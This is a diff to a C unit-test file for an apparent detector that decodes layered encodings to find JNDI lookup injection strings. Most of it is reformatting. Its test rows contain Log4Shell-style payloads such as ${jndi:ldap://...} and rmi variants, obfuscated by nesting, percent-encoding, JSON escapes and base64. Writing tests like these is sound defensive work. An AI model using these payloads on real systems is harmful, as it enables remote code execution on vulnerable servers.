@@ -83,7 +83,7 @@ static const struct {
     {FIELD_PLAIN, "${ never closed\r\nX: ${jndi:ldap://h.example/a}", NAME},
     {FIELD_PLAIN, "${jndi:ldap://h.example/a} and ${jndi:rmi://k/b}", NAME " rmi://k/b"},
     {FIELD_PLAIN, "{\"a\":\"${\\u006andi:ldap://h.example/a}\"}", NAME}, /* JSON under a wrong label */
-    {FIELD_PLAIN, "${\\u006andi:ldap://h.example/a}", ""},                /* nothing here undoes an escape */
+    {FIELD_PLAIN, "${\\u006andi:ldap://h.example/a}", ""},               /* nothing here undoes an escape */
     {FIELD_PLAIN, "${jn%64i:ldap://h.example/a}", NAME},
     {FIELD_PLAIN, "${jndi:ldap%3a//h.example/a}", NAME},
     {FIELD_PLAIN, "${jndi:nis://h/%41}", "nis://h/%41"},
@@ -126,11 +126,12 @@ static void lookups_are_found_under_their_encodings(void **state)
     (void)state;
     for (size_t i = 0; i < sizeof rows / sizeof *rows; i++) {
         struct found f = {0};
-        bool spent, found = resolver_run(resolver, bytes_str(rows[i].text), rows[i].coding, true, on_resolved, &f, &spent);
+        bool spent, found = resolver_run(resolver, bytes_str(rows[i].text), rows[i].coding, true, on_resolved,
+                                         &f, &spent);
 
         assert_int_equal(found, f.n > 0);
-        /* A JSON body with an escaped lookup in one value and an expression in another is inert value by value, and
-         * live when it is logged whole: the whole is tried when no piece says anything. */
+        /* A JSON body with an escaped lookup in one value and an expression in another is inert value by
+         * value, and live when it is logged whole: the whole is tried when no piece says anything. */
         if (strcmp(f.names, rows[i].names) != 0)
             fail_msg("%s: found \"%s\"", rows[i].text, f.names);
     }
@@ -139,7 +140,8 @@ static void lookups_are_found_under_their_encodings(void **state)
 /* While more may come, a reading that is still open keeps others from speaking too early. */
 static void half_a_text_waits(void **state)
 {
-    struct bytes half = BYTES_LIT("{\"a\":\"${jndi:\\u006cdap://\\u0024{lower:H}"); /* "}" ends the raw reading only */
+    struct bytes half =
+        BYTES_LIT("{\"a\":\"${jndi:\\u006cdap://\\u0024{lower:H}"); /* "}" ends the raw reading only */
     struct found f = {0};
     bool spent;
 
@@ -164,7 +166,8 @@ static void wide_text_is_read(void **state)
         wide[2 * i] = (uint8_t)narrow[i];
         wide[2 * i + 1] = 0;
     }
-    assert_true(resolver_run(resolver, bytes_of(wide, 2 * (sizeof narrow - 1)), FIELD_JSON, true, on_resolved, &f, &spent));
+    assert_true(resolver_run(resolver, bytes_of(wide, 2 * (sizeof narrow - 1)), FIELD_JSON, true, on_resolved,
+                             &f, &spent));
     assert_string_equal(f.names, "ldap://h/a");
     assert_int_equal(f.layers, 1 << UNWRAP_UTF16 | 1 << UNWRAP_JSON);
 }
@@ -177,7 +180,8 @@ static void narrow_text_behind_wide_is_read(void **state)
     bool spent;
 
     (void)state;
-    assert_true(resolver_run(resolver, bytes_of(text, sizeof text - 1), FIELD_PLAIN, true, on_resolved, &f, &spent));
+    assert_true(
+        resolver_run(resolver, bytes_of(text, sizeof text - 1), FIELD_PLAIN, true, on_resolved, &f, &spent));
     assert_string_equal(f.names, "ldap://h/a");
     assert_int_equal(f.layers, 0);
 }
@@ -188,10 +192,12 @@ static void layers_are_told(void **state)
     bool spent;
 
     (void)state;
-    resolver_run(resolver, BYTES_LIT("%2524%257Bjndi:ldap://h/a}"), FIELD_PLAIN, true, on_resolved, &f, &spent);
+    resolver_run(resolver, BYTES_LIT("%2524%257Bjndi:ldap://h/a}"), FIELD_PLAIN, true, on_resolved, &f,
+                 &spent);
     assert_int_equal(f.layers, 1 << UNWRAP_URL);
     f = (struct found){0};
-    resolver_run(resolver, BYTES_LIT("JHtqbmRpOmxkYXA6Ly9oLmV4YW1wbGUvYX06eA=="), FIELD_PLAIN, true, on_resolved, &f, &spent);
+    resolver_run(resolver, BYTES_LIT("JHtqbmRpOmxkYXA6Ly9oLmV4YW1wbGUvYX06eA=="), FIELD_PLAIN, true,
+                 on_resolved, &f, &spent);
     assert_int_equal(f.layers, 1 << UNWRAP_BASE64);
     f = (struct found){0};
     resolver_run(resolver, BYTES_LIT("${jndi:ldap://h/a}"), FIELD_URI, true, on_resolved, &f, &spent);
@@ -199,11 +205,13 @@ static void layers_are_told(void **state)
 }
 
 /* What a watcher hears, one line per event. */
-static void on_reading(void *arg, enum reading_event event, unsigned taken, const char *what, struct bytes text)
+static void on_reading(void *arg, enum reading_event event, unsigned taken, const char *what,
+                       struct bytes text)
 {
     static const char *const events[] = {"layer", "begin", "step"};
 
-    buf_addf(arg, "%u %s %s %.*s\n", taken, events[event], what ? what : "-", (int)text.len, (const char *)text.p);
+    buf_addf(arg, "%u %s %s %.*s\n", taken, events[event], what ? what : "-", (int)text.len,
+             (const char *)text.p);
 }
 
 static void assert_told(const char *text, enum field_coding coding, const char *expected)
@@ -225,24 +233,25 @@ static void readings_are_told(void **state)
     (void)state;
     assert_told("${${lower:J}ndi:rmi://h/a}", FIELD_PLAIN,
                 "0 begin - ${${lower:J}ndi:rmi://h/a}\n0 step lower ${jndi:rmi://h/a}\n");
-    assert_told("%2524{jndi:rmi://h/a}", FIELD_PLAIN,
-                "0 layer url %24{jndi:rmi://h/a}\n1 layer url ${jndi:rmi://h/a}\n2 begin - ${jndi:rmi://h/a}\n");
+    assert_told(
+        "%2524{jndi:rmi://h/a}", FIELD_PLAIN,
+        "0 layer url %24{jndi:rmi://h/a}\n1 layer url ${jndi:rmi://h/a}\n2 begin - ${jndi:rmi://h/a}\n");
     /* As it stands it leads nowhere; without the percent sign it does. */
     assert_told("${jndi:rmi%3a//h}", FIELD_PLAIN,
                 "0 begin - ${jndi:rmi%3a//h}\n0 layer url ${jndi:rmi://h}\n1 begin - ${jndi:rmi://h}\n");
-    /* What the place encodes comes off first, and stays off for what is tried after the text as it stands. */
+    /* What the place encodes comes off first, and stays off for what is tried after the text as it stands.
+     * One piece is not tried once more as the whole. */
     assert_told("/${a:%255cu0024}", FIELD_URI,
                 "0 layer url /${a:%5cu0024}\n1 begin - /${a:%5cu0024}\n0 begin - /${a:%255cu0024}\n"
                 "0 layer url /${a:%5cu0024}\n1 layer url /${a:\\u0024}\n2 begin - /${a:\\u0024}\n"
-                /* ... and once more together, when no piece said anything */
-                "0 layer url /${a:%5cu0024}\n1 begin - /${a:%5cu0024}\n0 begin - /${a:%255cu0024}\n"
-                "0 layer url /${a:%5cu0024}\n1 layer url /${a:\\u0024}\n2 begin - /${a:\\u0024}\n");
+                "2 layer escape-sequence /${a:$}\n");
 }
 
 /* Long hostile texts of each coding end, and within a test's patience. */
 static void hostile_texts_end(void **state)
 {
-    static const char *const units[] = {"%25", "${a:", "\\\\u0024{", "&#36;{", "JHtq", "\"${a:-\"", "=${x:&", "%2524{"};
+    static const char *const units[] = {"%25",  "${a:",      "\\\\u0024{", "&#36;{",
+                                        "JHtq", "\"${a:-\"", "=${x:&",     "%2524{"};
 
     (void)state;
     for (size_t i = 0; i < sizeof units / sizeof *units; i++) {
@@ -253,7 +262,8 @@ static void hostile_texts_end(void **state)
         while (buf_add_str(&text, units[i]))
             ;
         for (unsigned coding = FIELD_PLAIN; coding <= FIELD_COOKIE; coding++)
-            resolver_run(resolver, buf_bytes(&text), (enum field_coding)coding, true, on_resolved, &f, &spent);
+            resolver_run(resolver, buf_bytes(&text), (enum field_coding)coding, true, on_resolved, &f,
+                         &spent);
         buf_drop(&text);
     }
 }
